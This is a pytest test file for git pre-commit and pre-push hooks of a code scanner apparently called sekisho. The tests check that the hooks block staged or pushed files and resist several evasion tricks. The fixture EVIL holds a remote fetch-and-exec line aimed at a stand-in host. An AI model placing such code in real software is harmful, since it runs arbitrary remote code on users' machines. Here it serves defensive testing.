"""The hooks, tried as they are used: by the real git, and by the real pre-commit, in a repository of the test's own."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from support.command import sekisho
from support.git_server import git
from support.shared import ROOT

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

EVIL = "import requests\nexec(requests.get('https://a.invalid').text)\n"
CI = "on: push\njobs:\n  a:\n    steps:\n      - run: npm publish\n        env: {T: '${{ secrets.NPM_TOKEN }}'}\n"
HERE = os.environ | {
    "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_SYSTEM": os.devnull,
    "GIT_AUTHOR_NAME": "a",
    "GIT_AUTHOR_EMAIL": "a@example.invalid",
    "GIT_COMMITTER_NAME": "a",
    "GIT_COMMITTER_EMAIL": "a@example.invalid",
}


def run(folder: Path, *command: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, cwd=folder, env=HERE | env, capture_output=True, text=True, check=False)


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    git(tmp_path, "init", "-q", "--bare", "server.git")
    git(folder, "remote", "add", "origin", str(tmp_path / "server.git"))
    (folder / "app.py").write_text("print(1)\n")
    return folder


def install(folder: Path, hook: str, *options: str | Path) -> None:
    """As the manual tells it."""
    path = folder / ".git" / "hooks" / hook
    path.write_text(sekisho("inspect", "hook", hook, *options).out)
    path.chmod(0o755)


def test_a_commit_is_stopped_by_what_is_staged_and_by_nothing_else(work: Path) -> None:
    install(work, "pre-commit")
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "app.py")
    assert run(work, "git", "commit", "-q", "-m", "one").returncode == 0  # evil.py is not a part of it
    git(work, "add", "evil.py")
    (work / "evil.py").write_text("print('innocent')\n")  # but what is staged counts, not what lies there
    stopped = run(work, "git", "commit", "-q", "-m", "two")
    assert stopped.returncode != 0
    assert "BLOCK\n" in stopped.stdout + stopped.stderr
    assert "evil.py:2" in stopped.stdout + stopped.stderr
    git(work, "add", "evil.py")
    assert run(work, "git", "commit", "-q", "-m", "three").returncode == 0


def test_attributes_and_ignore_files_have_no_say(work: Path) -> None:
    install(work, "pre-commit")
    (work / "evil.py").write_text(EVIL)
    (work / ".gitattributes").write_text("evil.py export-ignore linguist-vendored -diff\n")
    git(work, "add", "-A")
    (work / ".gitignore").write_text("evil.py\n")
    assert run(work, "git", "commit", "-q", "-m", "one").returncode != 0


def test_a_hook_stops_at_block_and_may_be_made_stricter(work: Path) -> None:
    (work / "build.rs").write_text("fn main() {}\n")  # a language that is not read, and that building runs
    git(work, "add", "-A")
    install(work, "pre-commit", "--fail-on", "review")
    assert run(work, "git", "commit", "-q", "-m", "one").returncode != 0
    install(work, "pre-commit")
    assert run(work, "git", "commit", "-q", "-m", "one").returncode == 0


def test_a_push_tells_what_it_starts_with_which_secrets_and_stops_at_block(work: Path) -> None:
    install(work, "pre-push")
    (work / ".github" / "workflows").mkdir(parents=True)
    (work / ".github" / "workflows" / "ci.yml").write_text(CI)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "one")
    pushed = run(work, "git", "push", "-q", "origin", "main")
    assert pushed.returncode == 0, pushed.stderr
    assert ".github/workflows/ci.yml  can read: NPM_TOKEN, GITHUB_TOKEN\n    line 5: npm publish" in pushed.stdout
    git(work, "switch", "-q", "-c", "evil")
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "two")
    git(work, "switch", "-q", "main")  # what is pushed counts, not what is checked out
    assert run(work, "git", "push", "-q", "origin", "main", "evil").returncode != 0
    assert git(work, "ls-remote", "origin", "evil") == b""
    assert run(work, "git", "push", "-q", "origin", "main").returncode == 0
    assert run(work, "git", "push", "-q", "origin", ":main").returncode == 0  # to delete sends nothing


def test_objects_that_git_was_told_to_show_instead_do_not_count(work: Path) -> None:
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "innocent")
    innocent = git(work, "rev-parse", "HEAD^{tree}").decode().strip()
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "evil")
    git(work, "replace", git(work, "rev-parse", "HEAD^{tree}").decode().strip(), innocent)
    install(work, "pre-push")
    stopped = run(work, "git", "push", "-q", "origin", "main")
    assert stopped.returncode != 0
    assert "evil.py:2" in stopped.stdout


def test_a_hook_obeys_a_baseline_from_elsewhere_alone(work: Path, tmp_path: Path) -> None:
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "-A")
    mine = tmp_path / "mine.json"
    shutil.copytree(work, tmp_path / "copy", ignore=shutil.ignore_patterns(".git"))
    assert sekisho("inspect", "baseline", tmp_path / "copy", "--out", mine).status == 0
    install(work, "pre-commit", "--baseline", mine)
    assert run(work, "git", "commit", "-q", "-m", "one").returncode == 0
    (work / "theirs.json").write_bytes(mine.read_bytes())
    (work / "evil.py").write_text("# more\n" + EVIL)
    git(work, "add", "-A")
    assert run(work, "git", "commit", "-q", "-m", "two").returncode != 0
    install(work, "pre-commit", "--baseline", work / "theirs.json")
    refused = run(work, "git", "commit", "-q", "-m", "two")
    assert refused.returncode != 0
    assert "lies within" in refused.stderr


@pytest.mark.parametrize("hook", ["pre-commit", "pre-push"])
def test_a_hook_that_cannot_answer_stops(work: Path, hook: str) -> None:
    install(work, hook)
    path = work / ".git" / "hooks" / hook
    git(work, "add", "-A")
    if hook == "pre-push":
        git(work, "commit", "-q", "-m", "one")
    for broken in ("git pack-objects --stdout", "git rev-list", "-m sekisho"):
        install(work, hook)
        path.write_text(path.read_text().replace(broken, "false"))
        command = ["commit", "-q", "-m", "one"] if hook == "pre-commit" else ["push", "-q", "origin", "main"]
        assert run(work, "git", *command).returncode != 0


@pytest.mark.parametrize("hook", ["pre-commit", "pre-push"])
def test_a_hook_that_is_given_a_part_stops(work: Path, hook: str) -> None:
    """git says what there is, and fails on the way: what came till then is not the whole."""
    git(work, "add", "-A")
    if hook == "pre-push":
        git(work, "commit", "-q", "-m", "one")
    install(work, hook)
    path = work / ".git" / "hooks" / hook
    part = 'part() { git rev-list "$@" | head -n 1; return 1; }; part'
    path.write_text(path.read_text().replace("git rev-list", part))
    command = ["commit", "-q", "-m", "one"] if hook == "pre-commit" else ["push", "-q", "origin", "main"]
    assert run(work, "git", *command).returncode != 0


def framework(work: Path, tmp_path: Path, stage: str, **options: list[str]) -> dict[str, str]:
    """The framework's own configuration, with our hooks as they are published, from this environment."""
    published = tmp_path / "published"
    published.mkdir()
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    assert {hook["language"] for hook in hooks} == {"python"}
    (published / ".pre-commit-hooks.yaml").write_text(yaml.safe_dump([hook | {"language": "system"} for hook in hooks]))
    git(published, "init", "-q")
    git(published, "add", "-A")
    git(published, "commit", "-q", "-m", "one")
    revision = git(published, "rev-parse", "HEAD").decode().strip()
    listed = [{"id": hook["id"], **options} for hook in hooks]
    repository = {"repo": str(published), "rev": revision, "hooks": listed}
    (work / ".pre-commit-config.yaml").write_text(yaml.safe_dump({"repos": [repository]}))
    home = {"PRE_COMMIT_HOME": str(tmp_path / "cache")}
    done = run(work, "pre-commit", "install", "-t", stage, **home)
    assert done.returncode == 0, done.stdout + done.stderr
    return home


def test_the_framework_stops_a_commit(work: Path, tmp_path: Path) -> None:
    home = framework(work, tmp_path, "pre-commit")
    git(work, "add", "-A")
    fine = run(work, "git", "commit", "-m", "one", **home)
    assert fine.returncode == 0, fine.stdout + fine.stderr
    assert "sekisho inspect, what is staged" in fine.stderr
    assert "Passed" in fine.stderr
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "-A")
    stopped = run(work, "git", "commit", "-m", "two", **home)
    assert stopped.returncode != 0
    assert "evil.py:2" in stopped.stderr


def test_the_framework_passes_options_on(work: Path, tmp_path: Path) -> None:
    home = framework(work, tmp_path, "pre-commit", args=["--fail-on", "review"])
    (work / "build.rs").write_text("fn main() {}\n")
    git(work, "add", "-A")
    stopped = run(work, "git", "commit", "-m", "one", **home)
    assert stopped.returncode != 0
    assert "REVIEW" in stopped.stderr


def test_the_framework_stops_at_a_wrong_option(work: Path, tmp_path: Path) -> None:
    home = framework(work, tmp_path, "pre-commit", args=["--fail-on", "never"])
    git(work, "add", "-A")
    assert run(work, "git", "commit", "-m", "one", **home).returncode != 0


def test_the_framework_tells_what_a_push_starts(work: Path, tmp_path: Path) -> None:
    home = framework(work, tmp_path, "pre-push")
    (work / ".github" / "workflows").mkdir(parents=True)
    (work / ".github" / "workflows" / "ci.yml").write_text(CI)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "one")
    pushed = run(work, "git", "push", "-q", "origin", "main", **home)
    assert pushed.returncode == 0, pushed.stdout + pushed.stderr
    assert "can read: NPM_TOKEN, GITHUB_TOKEN" in pushed.stdout + pushed.stderr
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "two")
    assert run(work, "git", "push", "-q", "origin", "main", **home).returncode != 0
    asked = run(work, "pre-commit", "run", "--hook-stage", "pre-push", "sekisho-inspect-push", **home)
    assert asked.returncode != 0  # by hand: what HEAD holds


def test_the_framework_looks_at_the_branch_that_is_pushed_first(work: Path, tmp_path: Path) -> None:
    home = framework(work, tmp_path, "pre-push")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "one")
    git(work, "switch", "-q", "-c", "evil")
    (work / "evil.py").write_text(EVIL)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "two")
    git(work, "switch", "-q", "main")
    assert run(work, "git", "push", "-q", "origin", "evil", **home).returncode != 0
